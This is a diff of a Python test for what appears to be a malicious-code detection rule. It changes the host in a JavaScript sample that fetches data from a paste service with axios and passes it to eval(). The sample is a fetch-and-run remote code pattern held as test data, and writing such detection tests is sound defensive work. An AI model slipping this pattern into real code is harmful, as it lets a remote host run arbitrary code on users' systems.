@@ -14,7 +14,7 @@ def test_transaction_becomes_code(look):
 
 
 def test_paste_service(look):
-    source = 'const a = await axios.get("https://api.npoint.io/0"); eval(a.data.cookie);'
+    source = 'const a = await axios.get("https://api.npoint.io.example.test/0"); eval(a.data.cookie);'
     assert [f[1:3] for f in look(RULE, source)] == [("HIGH", "HIGH")]
 
 
